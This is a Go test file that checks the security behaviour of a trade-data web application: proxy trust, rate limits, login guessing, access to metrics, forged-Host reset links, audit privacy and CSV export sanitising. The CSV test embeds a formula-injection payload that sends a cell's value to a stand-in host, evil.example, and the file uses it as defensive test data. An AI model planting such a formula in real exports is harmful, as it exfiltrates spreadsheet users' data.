package ui

import (
	"context"
	"crypto/tls"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"sriim/internal/accounts"
	"sriim/internal/actors"
	"sriim/internal/auth"
	"sriim/internal/db"
	"sriim/internal/db/dbtest"
	"sriim/internal/httpkit"
	"sriim/internal/planning"
	"sriim/internal/trade"
)

// serve sends req through s and returns the answer.
func serve(s http.Handler, req *http.Request) *http.Response {
	rec := httptest.NewRecorder()
	s.ServeHTTP(rec, req)
	return rec.Result()
}

// TestHTTPSBehindTrustedProxy: HSTS and Secure cookies when the visitor came
// over HTTPS, directly or through a trusted proxy, never on a forged header.
func TestHTTPSBehindTrustedProxy(t *testing.T) {
	s := newTestServer(t, dbtest.Open(t, db.SQLite))
	s.k.Configure(func(o *httpkit.Options) { o.TrustedProxies = []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8")} })
	for _, tt := range []struct {
		name, peer string
		tls, https bool
	}{
		{"direct TLS", "198.51.100.7:5000", true, true},
		{"trusted proxy says https", "10.0.0.2:80", false, true},
		{"anyone says https", "198.51.100.7:5000", false, false},
	} {
		r := httptest.NewRequest(http.MethodGet, "/entrar?lang=es", nil)
		r.RemoteAddr = tt.peer
		r.Header.Set("X-Forwarded-Proto", "https")
		if tt.tls {
			r.TLS = &tls.ConnectionState{}
		}
		res := serve(s, r)
		if hsts := res.Header.Get("Strict-Transport-Security") != ""; hsts != tt.https {
			t.Errorf("%s: HSTS sent %v, want %v", tt.name, hsts, tt.https)
		}
		if len(res.Cookies()) == 0 {
			t.Fatalf("%s: no cookies", tt.name)
		}
		for _, c := range res.Cookies() {
			if c.Secure != tt.https {
				t.Errorf("%s: cookie %s Secure=%v, want %v", tt.name, c.Name, c.Secure, tt.https)
			}
		}
	}
}

// TestContactLimitIsPerVisitorBehindProxy: behind a trusted proxy each
// visitor has their own limit; a forged X-Forwarded-For from anyone else
// does not buy a new one.
func TestContactLimitIsPerVisitorBehindProxy(t *testing.T) {
	site := newSite(t, dbtest.Open(t, db.SQLite), false)
	a, _ := site.exporterWithProduct()
	page := fmt.Sprintf("/oferta/exportadores/%d", a.ID)
	send := func(peer, forwardedFor string) int {
		r := httptest.NewRequest(http.MethodPost, page+"/contacto", strings.NewReader(url.Values{"name": {"Buyer"}, "email": {"buyer@example.com"},
			"message": {"We would like 2 t of canned loco a month."}}.Encode()))
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		r.Header.Set("Authorization", "Bearer "+site.tokens["member"]) // no CSRF token to fetch
		r.RemoteAddr = peer
		if forwardedFor != "" {
			r.Header.Set("X-Forwarded-For", forwardedFor)
		}
		return serve(site.srv, r).StatusCode
	}
	for i := range 5 {
		if status := send("198.51.100.7:5000", fmt.Sprintf("203.0.113.%d", i)); status != http.StatusSeeOther {
			t.Fatalf("message %d: %d", i+1, status)
		}
	}
	if status := send("198.51.100.7:5000", "203.0.113.99"); status != http.StatusTooManyRequests {
		t.Fatalf("a forged X-Forwarded-For bought a new limit: %d", status)
	}
	site.srv.k.Configure(func(o *httpkit.Options) { o.TrustedProxies = []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8")} })
	for i := range 5 {
		if status := send("10.0.0.2:80", "203.0.113.1"); status != http.StatusSeeOther {
			t.Fatalf("visitor 1 behind the proxy, message %d: %d", i+1, status)
		}
	}
	if status := send("10.0.0.2:80", "203.0.113.1"); status != http.StatusTooManyRequests {
		t.Fatalf("visitor 1's 6th message: %d", status)
	}
	if status := send("10.0.0.2:80", "203.0.113.2"); status != http.StatusSeeOther {
		t.Fatalf("visitor 2 behind the same proxy is limited by visitor 1: %d", status)
	}
}

// TestParallelLoginGuessesThroughTheWeb posts many wrong passwords for one
// account at once: only five are checked, the rest are 429.
func TestParallelLoginGuessesThroughTheWeb(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		site := newSite(t, d, false)
		site.srv.Accounts.Now = func() time.Time { return time.Date(2026, 11, 26, 12, 0, 30, 0, time.UTC) }
		b := site.browser()
		_, _, token := b.get("/entrar")
		statuses := make(chan int, 60)
		var wg sync.WaitGroup
		for i := range 60 {
			wg.Add(1)
			go func() {
				defer wg.Done()
				res := b.post("/entrar", url.Values{"email": {"editor@example.org"}, "password": {fmt.Sprintf("guess %d", i)}, "csrf_token": {token}})
				statuses <- res.StatusCode
			}()
		}
		wg.Wait()
		close(statuses)
		count := map[int]int{}
		for s := range statuses {
			count[s]++
		}
		if count[http.StatusUnauthorized] != accounts.MaxFailuresPerAccount || count[http.StatusTooManyRequests] != 60-accounts.MaxFailuresPerAccount {
			t.Fatalf("answers to 60 parallel guesses: %v", count)
		}
	})
}

func TestMetricsOnlyForLoopbackNetworksOrToken(t *testing.T) {
	s := newTestServer(t, dbtest.Open(t, db.SQLite))
	s.k.Configure(func(o *httpkit.Options) {
		o.TrustedProxies = []netip.Prefix{netip.MustParsePrefix("127.0.0.1/32")}
		o.MetricsNetworks = []netip.Prefix{netip.MustParsePrefix("192.0.2.0/24")}
		o.MetricsToken = "metrics-secret"
	})
	for _, tt := range []struct {
		name, peer   string
		header       map[string]string
		trustedProxy bool
		status       int
	}{
		{name: "loopback", peer: "127.0.0.1:5000", status: 200},
		{name: "IPv6 loopback", peer: "[::1]:5000", status: 200},
		{name: "configured network", peer: "192.0.2.7:5000", status: 200},
		{name: "anyone", peer: "198.51.100.7:5000", status: 404},
		{name: "anyone with the token", peer: "198.51.100.7:5000", header: map[string]string{"Authorization": "Bearer metrics-secret"}, status: 200},
		{name: "anyone with a wrong token", peer: "198.51.100.7:5000", header: map[string]string{"Authorization": "Bearer guess"}, status: 404},
		{name: "anyone through a trusted proxy on this machine", peer: "127.0.0.1:5000", header: map[string]string{"X-Forwarded-For": "198.51.100.7"}, status: 404},
		{name: "anyone through an untrusted proxy on this machine", peer: "[::1]:5000", header: map[string]string{"X-Forwarded-For": "198.51.100.7"}, status: 404},
		{name: "configured network through a trusted proxy", peer: "127.0.0.1:5000", header: map[string]string{"X-Forwarded-For": "192.0.2.9"}, status: 200},
	} {
		r := httptest.NewRequest(http.MethodGet, "/metrics", nil)
		r.RemoteAddr = tt.peer
		for k, v := range tt.header {
			r.Header.Set(k, v)
		}
		res := serve(s, r)
		if res.StatusCode != tt.status {
			t.Errorf("%s: %d, want %d", tt.name, res.StatusCode, tt.status)
		}
		if b := body(t, res); tt.status == 200 && !strings.Contains(b, "go_gc_duration_seconds") {
			t.Errorf("%s: no metrics in %.200s", tt.name, b)
		}
	}
}

// recordingMailer keeps what it was asked to send.
type recordingMailer struct {
	mu   sync.Mutex
	sent []string
}

func (m *recordingMailer) Send(_ context.Context, to, _, body string) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.sent = append(m.sent, to+"\n"+body)
	return nil
}

func (m *recordingMailer) take() []string {
	m.mu.Lock()
	defer m.mu.Unlock()
	out := m.sent
	m.sent = nil
	return out
}

// TestResetLinkNeverFollowsAForgedHost: the mailed link is built from the
// configured public URL; without one, only from a Host naming the listen
// address.
func TestResetLinkNeverFollowsAForgedHost(t *testing.T) {
	site := newSite(t, dbtest.Open(t, db.SQLite), false)
	mailer := &recordingMailer{}
	site.srv.Mailer = mailer
	addr := strings.TrimPrefix(site.http.URL, "http://")
	site.srv.k.Configure(func(o *httpkit.Options) { o.Addr = addr })
	forgot := func(host string) []string {
		r := httptest.NewRequest(http.MethodPost, "/clave/olvido", strings.NewReader(url.Values{"email": {"editor@example.org"}}.Encode()))
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		r.Header.Set("Authorization", "Bearer "+site.tokens["member"]) // no CSRF token to fetch
		r.Host = host
		if res := serve(site.srv, r); res.StatusCode != 200 {
			t.Fatalf("Host %s: %d", host, res.StatusCode)
		}
		return mailer.take()
	}
	if sent := forgot("evil.example"); len(sent) != 0 {
		t.Fatalf("a link was mailed for a forged Host: %q", sent)
	}
	if sent := forgot(addr); len(sent) != 1 || !strings.Contains(sent[0], site.http.URL+"/clave/restablecer?token=") {
		t.Fatalf("no link for the listen address: %q", sent)
	}
	site.srv.k.Configure(func(o *httpkit.Options) { o.PublicURL = "https://sriim.example.org" })
	if sent := forgot("evil.example"); len(sent) != 1 || !strings.Contains(sent[0], "\nhttps://sriim.example.org/clave/restablecer?token=") || strings.Contains(sent[0], "evil") {
		t.Fatalf("the link does not use the public URL: %q", sent)
	}
	if _, page, _ := site.browser().get("/clave/restablecer?token=x"); !strings.Contains(page, `name="revoke_tokens" checked`) {
		t.Error("the reset form does not offer to revoke API tokens, checked")
	}
}

// TestAuditShowsEditorsOnlyWhatTheyMayRead: an editor's audit has no
// accounts, no other users' emails and no report it may not open.
func TestAuditShowsEditorsOnlyWhatTheyMayRead(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		site := newSite(t, d, false)
		ctx := context.Background()
		ed, other := site.users["editor"].Principal(), site.users["granted"].Principal()
		plans, _ := site.srv.Planning.Plans(ctx)
		acts, err := site.srv.Planning.Activities(ctx, plans[0].ID, 2008)
		if err != nil {
			t.Fatal(err)
		}
		var act planning.Activity
		for _, a := range acts {
			if a.CanReport(ed) && !a.CanReport(other) {
				act = a
				break
			}
		}
		draft, err := site.srv.Planning.SaveReport(ctx, ed, act.ID, planning.ReportInput{Period: "2008", Status: "in_progress", Narrative: "borrador interno"})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := site.srv.Accounts.UpdateUser(ctx, site.users["admin"].Principal(), site.users["member"].ID, accounts.UserInput{
			Email: "member@example.org", Name: "member", Role: auth.Member, ActorID: 7, Active: true}); err != nil {
			t.Fatal(err)
		}
		for _, path := range []string{"/api/v1/audit", "/api/v1/audit?entity=plan_report", "/api/v1/audit?format=csv"} {
			status, body := site.apiCall("granted", "GET", path, nil)
			if status != 200 {
				t.Fatalf("%s: %d", path, status)
			}
			for _, secret := range []string{"borrador interno", "admin@example.org", "editor@example.org", "member@example.org", `"entity":"user"`, `"entity":"api_token"`, "create,user,", "update,user,", "create,api_token,"} {
				if strings.Contains(body, secret) {
					t.Errorf("%s shows another institution's editor %q", path, secret)
				}
			}
		}
		if status, body := site.apiCall("editor", "GET", "/api/v1/audit?entity=plan_report", nil); status != 200 || !strings.Contains(body, "borrador interno") {
			t.Errorf("the reporting editor does not see its own draft's audit: %d", status)
		}
		status, body := site.apiCall("admin", "GET", "/api/v1/audit", nil)
		for _, want := range []string{"borrador interno", "editor@example.org", `"entity":"user"`} {
			if status != 200 || !strings.Contains(body, want) {
				t.Errorf("the administrator's audit lacks %q", want)
			}
		}
		b := site.browser()
		b.login("granted@example.org", testPassword)
		if _, page, _ := b.get(fmt.Sprintf("/admin/auditoria?entity=plan_report&entity_id=%d", draft.ID)); strings.Contains(page, "borrador interno") {
			t.Error("the audit page shows another institution's draft")
		}
	})
}

// TestNoStaffEmailOnPublicPages: trade imports and figure revisions name no
// staff member to the public (an administrator still sees who).
func TestNoStaffEmailOnPublicPages(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		site := newSite(t, d, false)
		ctx := context.Background()
		ed := site.users["editor"].Principal()
		batch, err := site.srv.Trade.Start(ctx, site.users["granted"].Principal(), trade.FormatSRIIM, "comtrade-2004.csv", "UN Comtrade")
		if err != nil {
			t.Fatal(err)
		}
		obs, err := site.srv.Production.Observation(ctx, 1)
		if err != nil {
			t.Fatal(err)
		}
		obs.Value++
		if _, err := site.srv.Production.Update(ctx, ed, obs.ID, obs); err != nil {
			t.Fatal(err)
		}
		pages := []string{fmt.Sprintf("/mercados/importaciones/%d", batch.ID), "/api/v1/markets/imports",
			fmt.Sprintf("/api/v1/markets/imports/%d", batch.ID), fmt.Sprintf("/produccion/observaciones/%d", obs.ID),
			fmt.Sprintf("/api/v1/production/observations/%d", obs.ID)}
		anonymous := site.browser()
		for _, p := range pages {
			status, body, _ := anonymous.get(p)
			if status != 200 || strings.Contains(body, "@example.org") {
				t.Errorf("%s: %d, shows a staff member's email: %v", p, status, strings.Contains(body, "@example.org"))
			}
		}
		if _, body, _ := anonymous.get(fmt.Sprintf("/produccion/observaciones/%d", obs.ID)); !strings.Contains(body, "Dirección Regional de la Producción") {
			t.Error("the revision does not name the institution that keeps the figure")
		}
		admin := site.browser()
		admin.login("admin@example.org", testPassword)
		for _, p := range pages {
			if _, body, _ := admin.get(p); !strings.Contains(body, "@example.org") {
				t.Errorf("%s: the administrator does not see who did it", p)
			}
		}
	})
}

func TestExporterPageShowsItsDistrict(t *testing.T) {
	site := newSite(t, dbtest.Open(t, db.SQLite), false)
	a, _ := site.exporterWithProduct()
	_, page, _ := site.browser().get(fmt.Sprintf("/oferta/exportadores/%d", a.ID))
	if !strings.Contains(page, "<dt>Distrito</dt><dd>Ilo</dd>") {
		t.Errorf("the exporter's district is not shown:\n%s", page)
	}
}

func TestSpeciesPageCitesPublicSources(t *testing.T) {
	site := newSite(t, dbtest.Open(t, db.SQLite), false)
	_, page, _ := site.browser().get("/oferta/productos/SNE")
	if strings.Contains(page, "DESIGN") || !strings.Contains(page, "FAO ASFIS List of Species for Fishery Purposes") {
		t.Error("the species page does not cite FAO's ASFIS list, or cites an internal document")
	}
}

// TestCSVExportsAreNotFormulas: a name that a spreadsheet would run as a
// formula comes out of the public actors CSV and the audit CSV as text.
func TestCSVExportsAreNotFormulas(t *testing.T) {
	site := newSite(t, dbtest.Open(t, db.SQLite), false)
	const attack = `=HYPERLINK("http://evil.example/?"&A1,"Ver")`
	keeper := auth.Principal{Email: "seed", Role: auth.Admin}
	if _, _, err := site.srv.Actors.Create(context.Background(), keeper, actors.Actor{Name: attack, Kinds: []string{"exporter"}}); err != nil {
		t.Fatal(err)
	}
	b := site.browser()
	b.login("admin@example.org", testPassword)
	for _, path := range []string{"/actores/datos.csv", "/admin/auditoria?format=csv&entity=actor"} {
		_, body, _ := b.get(path)
		recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\xef\xbb\xbf"))).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		found := false
		for _, rec := range recs {
			for _, cell := range rec {
				if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "+") || strings.HasPrefix(cell, "@") {
					t.Errorf("%s has a formula cell %q", path, cell)
				}
				found = found || cell == "'"+attack
			}
		}
		if path == "/actores/datos.csv" && !found {
			t.Errorf("%s lacks the name as text", path)
		}
	}
}
